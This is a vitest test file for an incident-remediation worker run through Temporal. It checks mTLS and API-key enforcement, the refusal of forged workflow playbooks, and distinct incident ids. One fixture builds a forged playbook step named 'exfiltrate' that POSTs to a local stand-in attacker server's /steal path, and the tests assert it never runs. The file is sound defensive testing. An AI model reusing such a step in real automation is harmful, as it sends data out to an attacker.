// Attacks on the control plane (issue 11, item 6). Temporal is what tells medic's worker to act:
//  - whoever reaches the frontend can start workflows, so medic talks to it over TLS with a client
//    certificate and/or an API key, and refuses to connect otherwise (a TLS front with mTLS and an
//    API-key check stands before the plaintext dev server, as a real frontend or auth proxy would);
//  - a workflow started by hand with a forged playbook (an extra step calling the attacker, or the
//    hash of another playbook) must not run: the worker runs only playbooks it loaded itself;
//  - incident ids of runs started within the same minute must differ (not a run-id prefix).
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Client } from '@temporalio/client';
import type { TestWorkflowEnvironment } from '@temporalio/testing';
import { ConfigSchema } from '../../src/config.js';
import { startDemoService, type DemoService } from '../../dev/demo-service.js';
import { ingestAlerts } from '../../src/intake/ingest.js';
import { playbookHash, playbookRef } from '../../src/playbooks/hash.js';
import { targetOf } from '../../src/playbooks/match.js';
import type { Playbook } from '../../src/playbooks/schema.js';
import { connectClient, connectWorker } from '../../src/temporal/connect.js';
import { createMedicWorker, type MedicWorker } from '../../src/temporal/worker.js';
import { createAuditSink } from '../../activities/audit.js';
import { auditLog, openAuditDb } from '../../src/audit/log.js';
import { statusQuery, timelineQuery, type IncidentInput, type IncidentStatus } from '../../workflows/contracts.js';
import { demoPlaybook, firingAlert, silentLog } from '../support/fixtures.js';
import { devServerEnv, uniqueQueue, workflowBundle } from '../support/temporal.js';
import { makeTemporalPki, startTlsFront, type TemporalPki, type TlsFront } from '../support/temporal-tls.js';
import { pollUntil } from '../support/poll.js';
import { groupOf } from '../../workflows/contracts-timeline.js';

const API_KEY = `medic-temporal-key-${randomUUID()}`;
let env: TestWorkflowEnvironment;
let demo: DemoService;
let dir: string;
const closers: (() => Promise<unknown>)[] = [];

beforeAll(async () => {
  [env, demo, dir] = await Promise.all([devServerEnv(), startDemoService(), mkdtemp(join(tmpdir(), 'medic-control-plane-'))]);
});
afterAll(async () => {
  for (const c of closers.reverse()) await c().catch(() => undefined);
  await demo?.close();
  await env?.teardown();
  if (dir) await rm(dir, { recursive: true, force: true });
});

const waitForStatus = async (client: Client, id: string, done: (s: IncidentStatus) => boolean, what: string): Promise<IncidentStatus> =>
  (await pollUntil(() => client.workflow.getHandle(id).query(statusQuery).catch(() => undefined), (s) => s !== undefined && done(s), what, 60_000))!;

describe('Temporal behind TLS: mTLS and an API key', () => {
  let pki: TemporalPki;
  let front: TlsFront;
  let apiKeyFile: string;
  const taskQueue = uniqueQueue('tls');
  const config = (temporal: Record<string, unknown>) => ConfigSchema.parse({ temporal: { address: front.address, taskQueue, ...temporal } });
  const trusted = () => ({ caFile: pki.caPath, certFile: pki.clientCertPath, keyFile: pki.clientKeyPath, serverName: pki.serverName });
  // A refused handshake fails only at the client's connect deadline (the SDK retries until then):
  // the refusal tests need a deadline, not the default 10 s of one.
  const refusedSoon = '2s';

  beforeAll(async () => {
    pki = await makeTemporalPki(dir);
    front = await startTlsFront({ target: env.address, pki, apiKey: API_KEY });
    closers.push(() => front.close());
    apiKeyFile = join(dir, 'temporal-api-key');
    await writeFile(apiKeyFile, `${API_KEY}\n`, { mode: 0o600 });
  });

  it('the client and worker with the CA, a client certificate and the API key run an incident end to end; every call carries both', async () => {
    const cfg = config({ tls: trusted(), apiKeyFile });
    const [client, connection] = await Promise.all([connectClient(cfg), connectWorker(cfg)]);
    closers.push(() => client.connection.close(), () => connection.close());
    const pb = demoPlaybook(demo.url, { name: 'tls-demo', match: { alertname: 'TlsDemoDown' } });
    const worker = await createMedicWorker({ connection, client, taskQueue, workflowBundle: await workflowBundle(), playbooks: () => [pb] });
    demo.state.fault = 'outage';
    const final = await worker.runUntil(async () => {
      const r = await ingestAlerts({ client, taskQueue, playbooks: () => [pb], log: silentLog }, [firingAlert({ alertname: 'TlsDemoDown' })]);
      return (await client.workflow.getHandle(r.incidents[0]!.workflowId).result()) as IncidentStatus;
    });
    expect(final.status).toBe('resolved');
    expect(demo.state.fault).toBe('none'); // the real remediation ran, through the TLS front
    // Both connections went through the front: the client's calls and the worker's polls.
    const paths = front.calls.map((c) => c.path);
    expect(paths).toEqual(expect.arrayContaining([expect.stringContaining('SignalWithStartWorkflowExecution'), expect.stringContaining('PollWorkflowTaskQueue')]));
    expect(front.calls.filter((c) => c.authorization !== `Bearer ${API_KEY}`)).toEqual([]);
    expect(front.calls.filter((c) => c.peer !== 'medic')).toEqual([]); // every call on an mTLS session of medic's certificate
  });

  it('without a client certificate: refused, for the client and the worker, with an error naming the frontend', async () => {
    const before = front.refusedHandshakes;
    const cfg = config({ tls: { caFile: pki.caPath, serverName: pki.serverName }, apiKeyFile, connectTimeout: refusedSoon });
    const err = await connectClient(cfg).then(() => undefined, (e: Error) => e);
    expect(err?.message).toContain(`cannot connect to Temporal at ${front.address} (TLS): TLS handshake failed: tlsv13 alert certificate required — the server requires a client certificate`);
    const werr = await connectWorker(cfg).then((c) => c.close().then(() => undefined), (e: Error) => e);
    expect(werr?.message).toContain(`cannot connect to Temporal at ${front.address} (TLS): TLS handshake failed: tlsv13 alert certificate required`);
    expect(front.refusedHandshakes).toBeGreaterThan(before); // the front refused the handshakes
  });

  it('trusting another CA: the frontend\'s certificate does not verify, nothing is sent', async () => {
    const calls = front.calls.length;
    const cfg = config({ tls: { ...trusted(), caFile: pki.rogueCaPath }, apiKeyFile, connectTimeout: refusedSoon });
    const err = await connectClient(cfg).then(() => undefined, (e: Error) => e);
    expect(err?.message).toContain(`cannot connect to Temporal at ${front.address} (TLS with a client certificate)`);
    expect(err?.message).toContain("self-signed certificate in certificate chain — the server's certificate does not verify against temporal.tls.caFile");
    expect(front.calls.length).toBe(calls); // no gRPC call reached the front
  });

  it('a client certificate from another CA: refused by the frontend', async () => {
    const before = front.refusedHandshakes;
    const calls = front.calls.length;
    const cfg = config({ tls: { ...trusted(), certFile: pki.rogueCertPath, keyFile: pki.rogueKeyPath }, apiKeyFile, connectTimeout: refusedSoon });
    const err = await connectClient(cfg).then(() => undefined, (e: Error) => e);
    // Node's TLS server (the front) refuses by closing the connection; a Temporal frontend sends an alert.
    expect(err?.message).toContain(`cannot connect to Temporal at ${front.address} (TLS with a client certificate): TLS: the server closed the connection right after the handshake — it likely refused our client certificate`);
    expect(front.calls.length).toBe(calls);
    expect(front.refusedHandshakes).toBeGreaterThan(before);
  });

  it('a wrong API key: every call is refused UNAUTHENTICATED, and the error says so', async () => {
    const cfg = config({ tls: trusted(), apiKey: 'not-the-key-0123456789' });
    const err = await connectClient(cfg).then(() => undefined, (e: Error) => e);
    expect(err?.message).toContain(`cannot connect to Temporal at ${front.address}`);
    expect(err?.message).toContain('missing or wrong API key');
    const last = front.calls[front.calls.length - 1]!;
    expect(last.authorization).toBe('Bearer not-the-key-0123456789'); // the SDK sent it as a bearer token
  });

  it('an unreadable key file and a certificate without a key: configuration errors naming the field, before connecting', async () => {
    const calls = front.calls.length;
    const missing = join(dir, 'nope.key');
    const err = await connectClient(config({ tls: { ...trusted(), keyFile: missing }, apiKeyFile: join(dir, 'nope-api-key') })).then(() => undefined, (e: Error) => e);
    expect(err?.message).toContain(`temporal.tls.keyFile: cannot read ${missing} (ENOENT)`);
    expect(err?.message).toContain('temporal.apiKeyFile: cannot read');
    expect(() => config({ tls: { caFile: pki.caPath, certFile: pki.clientCertPath } })).toThrow(/keyFile/);
    expect(front.calls.length).toBe(calls);
  });
});

describe('forged workflow inputs: the worker runs only playbooks it loaded', () => {
  const taskQueue = uniqueQueue('forged');
  let worker: MedicWorker;
  let running: Promise<void>;
  let attacker: Server;
  let attackerUrl: string;
  const stolen: string[] = [];
  let real: Playbook;
  let other: Playbook;
  let audit: ReturnType<typeof auditLog>;

  beforeAll(async () => {
    attacker = createServer((req, res) => {
      stolen.push(`${req.method} ${req.url}`);
      res.writeHead(200).end('thanks');
    });
    await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
    closers.push(() => new Promise((r) => attacker.close(r)));
    attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    real = demoPlaybook(demo.url, { name: 'cp-real', match: { alertname: 'CpReal' }, holdAfterEscalation: '1s' });
    other = demoPlaybook(demo.url, { name: 'cp-other', match: { alertname: 'CpOther' } });
    const db = openAuditDb(join(dir, 'audit.db'));
    audit = auditLog(db);
    // This worker loaded exactly these two playbooks (not every playbook this test process built).
    worker = await createMedicWorker({
      connection: env.nativeConnection,
      client: env.client,
      taskQueue,
      workflowBundle: await workflowBundle(),
      playbooks: () => [real, other],
      sinks: [createAuditSink(db)],
    });
    running = worker.run();
    closers.push(async () => {
      worker.shutdown();
      await running;
    });
  });

  const attackStep = (): Playbook['steps'][number] => ({ ...(real.steps[0] as Extract<Playbook['steps'][number], { action: 'http' }>), name: 'exfiltrate', params: { method: 'POST', url: `${attackerUrl}/steal`, expectStatus: [200], headers: {} }, verification: undefined });
  const forgedBody = (): Playbook => ({ ...real, steps: [attackStep(), ...real.steps] });

  /** Starts an incident workflow directly on the frontend, as someone with Temporal access could. */
  async function startForged(input: Omit<IncidentInput, 'alert' | 'target'>): Promise<string> {
    const alert = { ...firingAlert({ alertname: 'CpReal' }), fingerprint: randomUUID().slice(0, 16) };
    const workflowId = `incident:cp-real:forged-${randomUUID().slice(0, 8)}`;
    await env.client.workflow.start('incidentWorkflow', { workflowId, taskQueue, args: [{ ...input, alert, target: targetOf(real, alert) }] });
    return workflowId;
  }
  const requestsOf = (workflowId: string): string[] => Object.keys(demo.state.requests).filter((k) => k.includes(workflowId));

  async function expectRefused(workflowId: string, reason: RegExp): Promise<void> {
    const s = await waitForStatus(env.client, workflowId, (x) => x.status === 'escalated' || x.status === 'resolved', `${workflowId} to escalate`);
    expect(s.status).toBe('escalated');
    expect(s.escalationReason).toMatch(reason);
    const timeline = await env.client.workflow.getHandle(workflowId).query(timelineQuery);
    expect(timeline.filter((e) => groupOf(e.kind) === 'action' || groupOf(e.kind) === 'lock' || groupOf(e.kind) === 'approval')).toEqual([]); // no step, lock or approval
    expect(timeline.find((e) => groupOf(e.kind) === 'gate')?.message).toMatch(/^blocked: .*; nothing runs$/);
    expect(stolen).toEqual([]);
    expect(requestsOf(workflowId)).toEqual([]);
    // The refusal is in the audit log (published by the worker's audit sink).
    await pollUntil(() => audit.entries().some((r) => r.incidentId?.startsWith(workflowId) && reason.test(r.what.replace(/^blocked: |; nothing runs$/g, ''))), Boolean, 'the refusal in the audit log', 30_000);
    await env.client.workflow.getHandle(workflowId).terminate('test done').catch(() => undefined);
  }

  it('the real name with an added step calling the attacker (a body without a reference): escalates, the attacker receives nothing', async () => {
    const id = await startForged({ playbook: forgedBody() });
    await expectRefused(id, new RegExp(`^playbook cp-real hash ${playbookHash(forgedBody()).slice(0, 12)}… is not loaded by this worker \\(loaded: ${playbookHash(real).slice(0, 12)}…\\)$`));
  });

  it('the real name with the hash of a different loaded playbook: escalates, nothing runs', async () => {
    const id = await startForged({ playbookRef: { name: 'cp-real', hash: playbookHash(other) }, playbook: forgedBody() });
    await expectRefused(id, new RegExp(`^playbook cp-real hash ${playbookHash(other).slice(0, 12)}… is not loaded by this worker \\(loaded: ${playbookHash(real).slice(0, 12)}…\\)$`));
  });

  it('a name the worker never loaded: escalates, recording the refusal only', async () => {
    const id = await startForged({ playbookRef: { name: 'evil', hash: playbookHash(forgedBody()) }, playbook: { ...forgedBody(), name: 'evil' } });
    await expectRefused(id, /^playbook evil hash [0-9a-f]{12}… is not loaded by this worker \(no playbook of that name; loaded: cp-real, cp-other\)$/);
  });

  it('the right reference with a forged body: the worker runs its own copy — the real step heals, the attacker receives nothing', async () => {
    demo.state.fault = 'outage';
    const id = await startForged({ playbookRef: playbookRef(real), playbook: forgedBody() });
    const final = (await env.client.workflow.getHandle(id).result()) as IncidentStatus;
    expect(final.status).toBe('resolved');
    expect(stolen).toEqual([]);
    expect(requestsOf(id)).toHaveLength(1); // the one real step, from the worker's copy
    const timeline = await env.client.workflow.getHandle(id).query(timelineQuery).catch(() => []);
    expect(JSON.stringify(timeline)).not.toContain('exfiltrate');
  });

  it('the same alert group started, ended and started again within seconds: distinct incident ids (a hash of the whole run id)', async () => {
    const guarded = demoPlaybook(demo.url, {
      name: 'cp-guarded',
      match: { alertname: 'CpGuarded' },
      steps: [{ ...real.steps[0]!, requiresApproval: true, approvers: ['alice'] }] as Playbook['steps'],
    });
    const registry = [real, other, guarded];
    const w = await createMedicWorker({ connection: env.nativeConnection, client: env.client, taskQueue: `${taskQueue}-ids`, workflowBundle: await workflowBundle(), playbooks: () => registry });
    const deps = { client: env.client, taskQueue: `${taskQueue}-ids`, playbooks: () => registry, log: silentLog };
    const alert = firingAlert({ alertname: 'CpGuarded' });
    const ids = await w.runUntil(async () => {
      const seen: { incidentId: string; runId: string }[] = [];
      for (let i = 0; i < 2; i++) {
        const workflowId = (await ingestAlerts(deps, [{ ...alert, receivedAt: Date.now() }])).incidents[0]!.workflowId;
        const s = await waitForStatus(env.client, workflowId, (x) => x.status === 'awaiting_approval', 'the approval request');
        seen.push({ incidentId: s.incidentId, runId: (await env.client.workflow.getHandle(workflowId).describe()).runId });
        await ingestAlerts(deps, [{ ...alert, status: 'resolved' }]); // ends it: resolved before medic acted
        await env.client.workflow.getHandle(workflowId).result();
      }
      return seen;
    });
    const [first, second] = ids as [(typeof ids)[0], (typeof ids)[0]];
    expect(first.runId).not.toBe(second.runId);
    expect(first.incidentId.split(':').slice(0, 3)).toEqual(second.incidentId.split(':').slice(0, 3)); // same workflow id
    expect(first.incidentId).toMatch(/:[0-9a-f]{16}$/);
    expect(second.incidentId).toMatch(/:[0-9a-f]{16}$/);
    expect(first.incidentId).not.toBe(second.incidentId);
  });
});
